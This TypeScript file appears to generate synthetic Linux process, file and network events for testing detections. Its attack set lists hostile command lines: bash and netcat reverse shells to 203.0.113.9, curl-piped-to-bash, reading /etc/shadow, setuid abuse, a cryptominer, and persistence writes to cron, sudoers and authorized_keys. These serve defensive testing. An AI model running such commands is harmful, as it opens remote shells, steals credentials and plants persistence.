// Linux events as Tetragon and auditd decoders give them: processes, files, connections.
import { between } from "../../chance.ts";
import type { Chance } from "../../chance.ts";
import { address, guid, hex, name, pick, word } from "./made-event.ts";
import type { Maker } from "./made-event.ts";

const commands: readonly [readonly [string, string], ...(readonly [string, string])[]] = [
  ["/usr/bin/bash", "/bin/bash -c 'cd /srv/NAME && ./run.sh --once'"], ["/usr/bin/node", "node /app/dist/server.js --port NUM"], ["/usr/bin/python3.12", "python3 -m gunicorn WORD.wsgi:application --workers 4 --bind 0.0.0.0:NUM"],
  ["/usr/bin/grep", "grep -c processor /proc/cpuinfo"], ["/usr/bin/sed", "sed -n s/^WORD=//p /etc/WORD.conf"], ["/usr/lib/postgresql/17/bin/postgres", "postgres: WORD app 10.2.3.4(NUM) SELECT"], ["/usr/sbin/nginx", "nginx: worker process"],
  ["/usr/bin/runc", "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/HEX/log.json exec --process /tmp/runc-processNUM --detach HEX"], ["/usr/bin/date", "date +%s"], ["/usr/bin/cat", "cat /sys/fs/cgroup/memory.current"],
  ["/usr/bin/java", "java -XX:MaxRAMPercentage=75 -Dspring.profiles.active=prod -jar /app/WORD.jar"], ["/usr/sbin/cron", "/usr/sbin/CRON -f -P"], ["/usr/bin/git", "git -C /srv/NAME fetch --quiet origin"], ["/usr/bin/curl", "curl -fsS http://127.0.0.1:NUM/healthz"],
  ["/usr/bin/sh", "sh -c /usr/local/bin/docker-healthcheck.sh"], ["/usr/bin/find", "find /var/log/WORD -name *.gz -mtime +14 -delete"], ["/usr/bin/tar", "tar -czf /backup/NAME.tgz /srv/WORD"], ["/usr/bin/systemctl", "systemctl is-active WORD.service"],
];
const attacks = [
  ["/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], ["/usr/bin/curl", "curl http://203.0.113.9/x.sh | bash"], ["/usr/bin/base64", "base64 -d /tmp/p.b64"], ["/usr/bin/chmod", "chmod u+s /tmp/sh"], ["/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 9001"], ["/usr/bin/crontab", "crontab /tmp/c"],
  ["/tmp/xmrig", "./xmrig -o stratum+tcp://pool.example:3333 --donate-level=1"], ["/usr/bin/cat", "cat /etc/shadow"],
] as const;

const filled = (chance: Chance, template: string): string => template.replace(/NAME|WORD|HEX|NUM/g, (what) => (what === "NAME" ? name(chance) : what === "WORD" ? word(chance) : what === "HEX" ? hex(chance, 32) : String(between(chance, 1024, 65_535))));

const where = (chance: Chance): Record<string, string | number> => ({ node_name: `node-${between(chance, 1, 60)}`, "k8s.ns.name": word(chance), "k8s.pod.name": `${name(chance)}-${hex(chance, 5)}`, "container.id": hex(chance, 12), time: `2026-11-22T10:00:00.${between(chance, 1, 999)}Z` });

export const linuxProcess: Maker = (chance, isAttack) => {
  const [image, command] = isAttack ? pick(chance, attacks) : pick(chance, commands);
  const [parentImage, parentCommand] = pick(chance, commands);
  return {
    logsource: { category: "process_creation", product: "linux", service: pick(chance, ["tetragon", "auditd"]) },
    fields: {
      ...where(chance), Image: image, CommandLine: filled(chance, command), ParentImage: parentImage, ParentCommandLine: filled(chance, parentCommand), CurrentDirectory: pick(chance, ["/", "/srv", "/app", "/root"]), User: pick(chance, ["root", "www-data", "app", "postgres"]),
      ProcessId: between(chance, 2, 400_000), ParentProcessId: between(chance, 1, 400_000), ProcessGuid: guid(chance), ParentProcessGuid: guid(chance), uid: between(chance, 0, 2000), auid: 4_294_967_295, flags: "execve clone",
      process: { exec_id: hex(chance, 24), pid: between(chance, 2, 400_000), binary: image, arguments: command, pod: { namespace: word(chance), name: name(chance), container: { id: hex(chance, 12), image: { name: `registry.example/${word(chance)}:1.${between(chance, 0, 40)}` } } } },
    },
  };
};

export const linuxFile: Maker = (chance, isAttack) => ({
  logsource: { category: "file_event", product: "linux" },
  fields: { ...where(chance), Image: pick(chance, commands)[0], User: "root", ProcessId: between(chance, 2, 400_000), ProcessGuid: guid(chance), syscall: "openat", flags: "O_WRONLY|O_CREAT", mode: "0644", TargetFilename: isAttack ? pick(chance, ["/etc/cron.d/persist", "/etc/sudoers.d/x", "/root/.ssh/authorized_keys"]) : filled(chance, pick(chance, ["/var/log/WORD/NAME.log", "/srv/data/NAME/part-NUM.parquet", "/run/WORD.pid", "/var/lib/docker/overlay2/HEX/merged/app/NAME"])) },
});

export const linuxNetwork: Maker = (chance, isAttack) => ({
  logsource: { category: "network_connection", product: "linux" },
  fields: { ...where(chance), Image: isAttack ? "/usr/bin/bash" : pick(chance, commands)[0], User: "app", ProcessId: between(chance, 2, 400_000), ProcessGuid: guid(chance), Protocol: "tcp", Initiated: "true", SourceIp: address(chance), SourcePort: between(chance, 1024, 65_535), DestinationIp: address(chance), DestinationPort: isAttack ? 4444 : pick(chance, [443, 5432, 6379, 80, 9092]), DestinationHostname: isAttack ? "xmr.nanopool.org" : `${name(chance)}.svc.cluster.local` },
});
